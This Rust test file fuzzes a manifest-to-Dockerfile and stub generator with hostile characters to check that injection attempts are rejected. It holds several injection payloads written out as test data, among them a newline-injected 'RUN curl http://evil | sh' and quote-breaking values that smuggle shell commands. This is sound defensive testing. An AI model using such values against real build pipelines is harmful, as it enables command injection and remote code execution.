//! Injection, generatively: every string value of the real api.toml, in turn, gets characters
//! from a hostile alphabet (quotes, `$`, backquotes, backslashes, newlines, spaces, `#`,
//! shell operators). Each such manifest is a located error, or renders outputs whose
//! structure (Dockerfile instructions, the shell shape of each RUN line, the shim's and the
//! Rust crate's token shapes) is that of the same value spelt safely.
//! `PROPTEST_CASES=N` scales it; the cargo-fuzz target runs the same check.

mod fuzz_checks;

use fuzz_checks::{API_TOML, HOSTILE, Outcome, check_value_structure, twin};
use proptest::prelude::*;
use toml_edit::{DocumentMut, Item, Value};

/// A step into a TOML document: a key or an array index.
#[derive(Clone, Debug)]
enum Step {
    Key(String),
    Index(usize),
}

/// The path of every string value in the document, with the value.
fn string_values(doc: &DocumentMut) -> Vec<(Vec<Step>, String)> {
    let mut out = Vec::new();
    walk_item(doc.as_item(), &mut Vec::new(), &mut out);
    out
}

fn walk_item(item: &Item, at: &mut Vec<Step>, out: &mut Vec<(Vec<Step>, String)>) {
    match item {
        Item::Value(v) => walk_value(v, at, out),
        Item::Table(t) => {
            for (k, v) in t.iter() {
                at.push(Step::Key(k.to_owned()));
                walk_item(v, at, out);
                at.pop();
            }
        }
        Item::ArrayOfTables(a) => {
            for (i, t) in a.iter().enumerate() {
                at.push(Step::Index(i));
                for (k, v) in t.iter() {
                    at.push(Step::Key(k.to_owned()));
                    walk_item(v, at, out);
                    at.pop();
                }
                at.pop();
            }
        }
        Item::None => {}
    }
}

fn walk_value(v: &Value, at: &mut Vec<Step>, out: &mut Vec<(Vec<Step>, String)>) {
    match v {
        Value::String(s) => out.push((at.clone(), s.value().clone())),
        Value::Array(a) => {
            for (i, v) in a.iter().enumerate() {
                at.push(Step::Index(i));
                walk_value(v, at, out);
                at.pop();
            }
        }
        Value::InlineTable(t) => {
            for (k, v) in t.iter() {
                at.push(Step::Key(k.to_owned()));
                walk_value(v, at, out);
                at.pop();
            }
        }
        _ => {}
    }
}

/// The document with the string at `path` replaced by `value` (toml_edit escapes it).
fn with_value(path: &[Step], value: &str) -> String {
    let mut doc: DocumentMut = API_TOML.parse().expect("api.toml parses");
    let mut item = doc.as_item_mut();
    for step in path {
        item = match step {
            Step::Key(k) => &mut item[k.as_str()],
            Step::Index(i) => &mut item[*i],
        };
    }
    let decor = item.as_value().map(|v| v.decor().clone());
    let mut new = Value::from(value);
    if let Some(decor) = decor {
        *new.decor_mut() = decor;
    }
    *item = Item::Value(new);
    doc.to_string()
}

fn hostile_fragment() -> impl Strategy<Value = String> {
    let c = prop_oneof![
        4 => proptest::sample::select(HOSTILE.to_vec()),
        1 => proptest::sample::select(vec!['a', 'Z', '0', '.', '/', '-', '_', '=']),
    ];
    proptest::collection::vec(c, 1..12)
        .prop_map(|cs| cs.into_iter().collect::<String>())
        .prop_filter("must hold a hostile char", |s| {
            s.chars().any(|c| HOSTILE.contains(&c))
        })
}

proptest! {
    #![proptest_config(ProptestConfig {
        cases: std::env::var("PROPTEST_CASES").ok().and_then(|v| v.parse().ok()).unwrap_or(400),
        max_shrink_iters: 500,
        ..ProptestConfig::default()
    })]

    /// A hostile fragment put into (or in place of) one value never changes structure.
    #[test]
    fn hostile_values_never_change_structure(
        pick in any::<prop::sample::Index>(),
        fragment in hostile_fragment(),
        at in any::<prop::sample::Index>(),
        replace in any::<bool>(),
    ) {
        let doc: DocumentMut = API_TOML.parse().expect("api.toml parses");
        let values = string_values(&doc);
        let (path, original) = &values[pick.index(values.len())];
        let value = if replace {
            fragment.clone()
        } else {
            let chars: Vec<char> = original.chars().collect();
            let i = at.index(chars.len() + 1);
            chars[..i].iter().chain(fragment.chars().collect::<Vec<_>>().iter()).chain(&chars[i..]).collect()
        };
        eprintln!("value at {path:?}: {value:?}");
        // The property is asserted inside: a located error, or the twin's structure.
        check_value_structure(&with_value(path, &value), &with_value(path, &twin(&value)));
    }
}

/// The named examples of issue 12, and that every string value is reached.
#[test]
fn the_reported_injections_are_errors() {
    let doc: DocumentMut = API_TOML.parse().expect("api.toml parses");
    let values = string_values(&doc);
    assert!(
        values.len() > 60,
        "only {} string values found",
        values.len()
    );
    let find = |key: &str| {
        values
            .iter()
            .find(|(p, _)| matches!(p.last(), Some(Step::Key(k)) if k == key))
            .map(|(p, _)| p.clone())
            .unwrap_or_else(|| panic!("no {key}"))
    };
    for (key, value) in [
        ("path", "x\"; touch pwned; echo \".py"),
        ("raw_base_url", "https://x\nRUN curl http://evil | sh"),
        ("repo", "a/b\"; id; \""),
        ("base_tag", "v1\nRUN id"),
    ] {
        let text = with_value(&find(key), value);
        assert_eq!(
            check_value_structure(&text, &with_value(&find(key), &twin(value))),
            Outcome::Rejected,
            "{key} = {value:?} was accepted"
        );
    }
}

/// A type api.toml gives is code in the stubs: `str|bytes` (where its twin `strxbytes` is a
/// name) is one annotation there all the same, and `)` cannot close the signature around it.
#[test]
fn an_annotation_is_one_slot_of_a_stub() {
    let annotation = "{ name = \"buffer_pool\", type = \"Any\"";
    for (value, outcome) in [
        ("str|bytes", Outcome::Parsed),
        ("int) -> None: ...\nimport os", Outcome::Rejected),
    ] {
        let with = |v: &str| API_TOML.replacen(annotation, &annotation.replace("Any", v), 1);
        assert_ne!(with(value), API_TOML);
        assert_eq!(
            check_value_structure(&with(value), &with(&twin(value))),
            outcome
        );
    }
}

/// Where the twin is refused, the real api.toml is the reference: the same structure passes...
#[test]
fn a_refused_twin_compares_with_the_real_manifest() {
    assert_eq!(
        check_value_structure(API_TOML, "not toml ="),
        Outcome::Parsed
    );
}

/// ...and a changed structure (a static method made a plain one) is caught, not skipped.
#[test]
#[should_panic(expected = "a value changed the structure")]
fn a_changed_structure_is_caught_against_a_refused_twin() {
    let changed = API_TOML.replacen("staticmethod = true", "staticmethod = false", 1);
    assert_ne!(changed, API_TOML);
    check_value_structure(&changed, "not toml =");
}
